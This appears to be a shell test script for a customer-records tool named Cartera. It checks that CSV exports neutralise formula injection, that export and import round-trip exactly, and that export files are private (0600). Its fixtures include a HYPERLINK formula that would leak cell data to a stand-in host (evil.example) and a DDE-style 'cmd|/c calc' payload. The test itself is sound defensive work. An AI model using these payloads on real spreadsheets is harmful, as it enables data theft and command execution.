#!/bin/bash
# csv_hostile.sh - the CSV files Cartera writes are safe to open in a
# spreadsheet and private, and read back exactly:
#   - cells that start with = + - @ tab or CR (a formula to a spreadsheet:
#     '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Click")') are
#     written with a leading ' in the export and in report CSVs, whether
#     they came from the command line or from an import (OWASP "CSV
#     injection"), checked with Python's csv reader;
#   - a plain number ("-12", "1234,56") is left alone;
#   - import takes the ' off again, so export -> import -> export gives
#     the same file and the same data ("+34 911 222 333" stays exact), and
#     a cell that only starts with ' keeps it;
#   - export files are created 0600 whatever the umask, also over an
#     existing 0644 file (they hold every client's personal data).
# On either engine (make check-pg): the databases come from t_db.
. "${srcdir:-$(dirname "$0")/..}/tests/lib.sh"
t_init csv_hostile
[ "$(t_engine)" = sqlite ] && t_require sqlite3
[ -x "$T_PYTHON" ] || t_skip "$T_PYTHON not found"

CARTERA=${top_builddir:-.}/cartera
export TZ=UTC
: >"$T/empty.conf"
c() { "$CARTERA" -c "$T/empty.conf" -q --now "2026-06-15 10:00Z" "$@"; }
A=$(t_db a) B=$(t_db b)
export CARTERA_DB=$A
Q="'"
HYPER='=HYPERLINK("http://evil.example/?leak="&B2&C2,"Click")'

c init || t_fatal "init"
c owner add ana@example.com --name "Ana" --tz UTC || t_fatal "owner"
c client add "$HYPER" --owner ana@example.com --city Madrid >/dev/null || t_fatal "client add"
c client add "Talleres Pérez" --owner ana@example.com --phone "+34 911 222 333" \
	--notes "-10 % si paga al contado" --city "@Casa" >/dev/null || t_fatal "client add 2"
c client add "'ya citado" --owner ana@example.com --sector "+suma" >/dev/null || t_fatal "client add 3"
# Through an import too.
printf 'name,notes,owner\n"@SUM(1+1)*cmd|/c calc!A0",x,ana@example.com\nTab Corp,retorno,ana@example.com\n' \
	>"$T/in.csv"
c import "$T/in.csv" >/dev/null || t_fatal "import"
c invoice add Talleres 1234.56 --due 2026-07-01 --issued 2026-06-01 --number "=F1" >/dev/null ||
	t_fatal "invoice"

# cells FILE: every cell of a CSV, one per line, as Python's csv reads it
# (a JSON string, so tabs and CRs show as \t and \r).
cells() {
	"$T_PYTHON" - "$1" <<'PY'
import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
    for row in csv.reader(f):
        for cell in row:
            print(json.dumps(cell, ensure_ascii=False))
PY
}
# formulas FILE.cells: the cells a spreadsheet would run (not plain numbers).
formulas() {
	"$T_PYTHON" - "$1" <<'PY'
import json, re, sys
for line in open(sys.argv[1], encoding="utf-8"):
    v = json.loads(line)
    if v and v[0] in "=+-@\t\r" and not re.fullmatch(r"[-+]?[0-9]+([.,][0-9]+)?", v):
        print(line, end="")
PY
}

c export "$T/rt.csv" || t_fail "export for the round trip"
# Round trip: import the export into a new database, export again.
export CARTERA_DB=$B
c init || t_fatal "init b"
c owner add ana@example.com --name "Ana" --tz UTC || t_fatal "owner b"
c import "$T/rt.csv" >/dev/null || t_fail "the export imports"
c export "$T/two.csv" || t_fail "export b"
t_assert_eq "$(cat "$T/rt.csv")" "$(cat "$T/two.csv")" "export -> import -> export: the same file"
q() { t_sql "$1" "SELECT c.name, coalesce(k.phone, ''), coalesce(c.notes, ''), coalesce(c.city, ''),
	coalesce(c.sector, '') FROM clients c LEFT JOIN contacts k ON k.client_id = c.id AND k.is_primary = 1
	ORDER BY c.name"; }
t_assert_eq "$(q "$A")" "$(q "$B")" "and the same data, character for character"
t_assert_eq "+34 911 222 333" "$(t_sql "$B" "SELECT phone FROM contacts WHERE phone LIKE '+34%'")" \
	"the phone came back exactly"
t_assert_eq "$HYPER" "$(t_sql "$B" "SELECT name FROM clients WHERE name LIKE '=HYPER%'")" \
	"the formula name came back exactly (as data)"
export CARTERA_DB=$A

# The CLI and import trim leading white space; a tab or CR at the start
# can only come from behind their back (written into the SQL as they are:
# both engines take them inside a string).
t_sql "$A" "UPDATE clients SET name = '$(printf '\t')Tab Corp', notes = '$(printf '\r')retorno'
	WHERE name = 'Tab Corp'" || t_fatal "tampering"

(umask 022 && c export "$T/one.csv") || t_fail "export"
cells "$T/one.csv" >"$T/one.cells"
t_assert_eq "" "$(formulas "$T/one.cells")" "no exported cell starts with = + - @ tab or CR"
t_assert_file_contains "$T/one.cells" "^\"${Q}=HYPERLINK\(" "the formula name is written '=HYPERLINK(...)"
t_assert_file_contains "$T/one.cells" "^\"${Q}\+34 911 222 333\"$" "the phone is written '+34 ..."
t_assert_file_contains "$T/one.cells" "^\"${Q}-10 % si paga al contado\"$" "notes starting with -"
t_assert_file_contains "$T/one.cells" "^\"${Q}@Casa\"$" "a city starting with @"
t_assert_file_contains "$T/one.cells" "^\"${Q}@SUM\(1\+1\)\*cmd\|/c calc!A0\"$" "an imported formula"
t_assert_file_contains "$T/one.cells" "^\"${Q}[\\]tTab Corp\"$" "a cell starting with a tab"
t_assert_file_contains "$T/one.cells" "^\"${Q}[\\]rretorno\"$" "a cell starting with CR"
t_assert_file_contains "$T/one.cells" "^\"${Q}ya citado\"$" "a name that starts with ' is left as it is"
t_assert_eq 600 "$(stat -c %a "$T/one.csv")" "the export is created 0600 under umask 022"
: >"$T/old.csv"
chmod 644 "$T/old.csv"
(umask 022 && c export "$T/old.csv") || t_fail "export over a file"
t_assert_eq 600 "$(stat -c %a "$T/old.csv")" "an export over an existing 0644 file is 0600"
c export --invoices "$T/inv.csv" || t_fail "export --invoices"
t_assert_file_contains "$T/inv.csv" "'=F1" "an invoice number starting with = in the invoice export"
t_assert_eq 600 "$(stat -c %a "$T/inv.csv")" "the invoice export is 0600 too"

# Reports' CSV: the name of the client with revenue.
c invoice add "Tab Corp" 10 --due 2026-05-20 --issued 2026-05-10 >/dev/null
c invoice add "@SUM" 20 --due 2026-05-20 --issued 2026-05-11 >/dev/null
c report pareto --month 2026-05 --format csv >"$T/pareto.csv" || t_fail "report csv"
cells "$T/pareto.csv" >"$T/pareto.cells"
t_assert_file_contains "$T/pareto.cells" "^\"${Q}@SUM\(1\+1\)" "a report CSV neutralises a formula name"
t_assert_file_contains "$T/pareto.cells" "^\"${Q}[\\]tTab Corp\"" "and a name starting with a tab"
t_assert_eq "" "$(formulas "$T/pareto.cells")" "no report cell starts with = + - @ tab or CR"

t_done
